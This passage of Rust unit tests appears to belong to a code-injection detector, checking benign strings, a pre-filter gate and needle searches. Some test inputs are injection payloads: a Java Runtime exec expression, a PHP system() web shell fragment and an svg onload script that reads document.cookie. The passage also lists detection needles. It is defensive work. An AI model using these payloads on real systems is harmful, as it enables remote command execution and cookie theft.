            "please evaluate the proposal and exec summary",
            "Our system (the old one) needs an upgrade soon, see the docs.",
            "use re.exec(str) to match",
            "{\"type\": \"com.example.Order\", \"city\": \"Zürich\"}",
            "java.lang.String is immutable",
            "mailto:o'brien@example.com",
            "https://example.com/search?q=eval",
            "Run `pip install flask` then `flask run`.",
            "<!-- comment -->",
            "copy & paste, Tom & Jerry",
            "$(document).ready(function() { init(); });",
            "while (i < n) { i++; }",
            "for (;;) { poll(); }",
            "See [exec](https://example.com/exec) and [eval][1]",
            "`${greeting}, ${name}`",
            "<doc><java.lang.ProcessBuilder>text only</java.lang.ProcessBuilder></doc>",
            "<doc><item KztAAU=\"x\"/></doc>",
            "res.send(process.env.GREETING)",
            // Vue and i18n template expressions.
            "{{ $t('checkout.title') }}",
            "<h1>{{ $tc('cart.items', count) }}</h1>",
            // Python data: tuples in YAML, module names in prose, a Fernet token.
            "point: !!python/tuple [1, 2]",
            "emoji_index: !!python/name:material.extensions.emoji.twemoji",
            "--- !ruby/object:Gem::Specification",
            "def f(): return f.__globals__",
            "Access f.__globals__[\"__name__\"] for the module name",
            "sys.modules is a dict of loaded modules",
            "Use sys.modules['os'] only if already imported",
            "mock: sys.modules['os.path'] = fake",
            "__loader__.load_module() is deprecated, use exec_module()",
            "gAAAAABlZ2F0ZXdheS10b2tlbi1mb3ItdGVzdHM=",
        ];
        let wrong: Vec<_> = cases.iter().filter(|s| flagged(s)).collect();
        assert!(wrong.is_empty(), "flagged: {wrong:#?}");
    }

    #[test]
    fn gate_reads_type_references_without_calls_of_names_ending_in_t() {
        let admits = |t: &str| gate::may_match(t, class::of(t.as_bytes()));
        for t in ["T(java.lang.Runtime)", "x = t(Foo)", "{T(Bar)}", "(t(x))"] {
            assert!(admits(t), "{t}");
        }
        for t in [
            "<svg/onload=alert(document.cookie)>",
            "<script>alert(1)</script>",
            "print(x)",
        ] {
            assert!(!admits(t), "{t}");
        }
    }

    #[test]
    fn dotted_needles_count_only_in_a_value_with_a_dot() {
        let admits = |t: &str| gate::may_match(t, class::of(t.as_bytes()));
        for t in ["process", "Process the order", "java io file"] {
            assert!(!admits(t), "{t}");
        }
        for t in [
            "the process.",
            "x java.io.File",
            "javax.naming",
            "org.omg.x",
        ] {
            assert!(admits(t), "{t}");
        }
    }

    #[test]
    fn whitespace_classes_read_like_char_is_whitespace() {
        for c in 0..=0x7fu8 {
            let t = [c];
            let seen = class::of(&t);
            assert_eq!(
                seen & class::SPACE != 0,
                char::from(c).is_whitespace(),
                "{c:#x}"
            );
            assert_eq!(seen & class::NON_ASCII, 0);
        }
        for t in [
            "a.b",
            "a b",
            "a.b\u{a0}c",
            "ä.b",
            "a\u{3000}.b",
            "x.y\u{2028}",
            "é.ü",
        ] {
            let seen = class::of(t.as_bytes());
            assert_eq!(
                has_whitespace(t, seen),
                t.contains(char::is_whitespace),
                "{t}"
            );
        }
    }

    #[test]
    fn long_run_skip_reads_like_a_plain_count() {
        let min = crate::detect::code_injection_java_base64::MIN_CHARS;
        let plain = |b: &[u8]| {
            b.split(|&c| class::TABLE[usize::from(c)] & class::SEXTET == 0)
                .any(|run| run.len() >= min)
        };
        for t in [
            "",
            "abcdefghi",
            "abcdefghij",
            " abcdefghij",
            "abc defghij klmnopqrst",
            "Can you drop the table booking for tonight?",
            "rO0ABXNyABFqYXZh",
            "a.b.c.d.e.f.g.h.i.j.k",
            "xxxxxxxxx.yyyyyyyyy.zzzzzzzzzz",
            "123456789 1234567890",
        ] {
            assert_eq!(has_long_run(t.as_bytes()), plain(t.as_bytes()), "{t}");
            let seen = class::of(t.as_bytes());
            assert_eq!(
                has_long_run_seen(t.as_bytes(), seen),
                plain(t.as_bytes()),
                "{t}"
            );
        }
    }

    #[test]
    fn byte_pairs_never_hide_a_needle_that_is_there() {
        let text = "${t(java.lang.runtime).getruntime().exec('id')} <?php system($_get['c']); ?>";
        let v = View::new(text, text);
        for n in [
            "getruntime",
            "system",
            "$_get",
            "<?",
            "t(",
            "java.lang.runtime",
            "?>",
        ] {
            assert!(v.has(n), "{n}");
            assert_eq!(v.find(n), text.find(n), "{n}");
            assert_eq!(v.sites(n).count(), text.matches(n).count(), "{n}");
        }
        // A needle with a pair the value lacks is answered without a search.
        assert!(!v.pairs.may_hold("processbuilder"));
        assert!(!v.has("child_process"));
        assert_eq!(v.sites("child_process").count(), 0);
    }

    #[test]
    fn hostile_input_does_not_panic() {
        let _ = inspect(&"system(".repeat(20_000));
        let _ = inspect(&"\\u00".repeat(20_000));
        let _ = inspect("é\\xé\\u12é<!--#é");
        let _ = inspect(&"(".repeat(100_000));
    }
}
